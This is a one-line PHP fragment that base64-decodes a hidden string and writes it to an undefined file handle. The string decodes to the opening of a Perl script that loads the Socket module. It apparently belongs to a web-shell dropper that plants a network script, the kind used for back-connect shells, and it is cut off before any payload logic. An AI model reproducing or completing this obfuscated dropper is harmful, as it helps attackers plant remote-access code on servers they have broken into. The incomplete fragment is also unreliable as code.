<?php $p="IyEvdXNyL2Jpbi9wZXJsDQp1c2UgU29ja2V0Ow=="; fwrite($f, base64_decode($p));
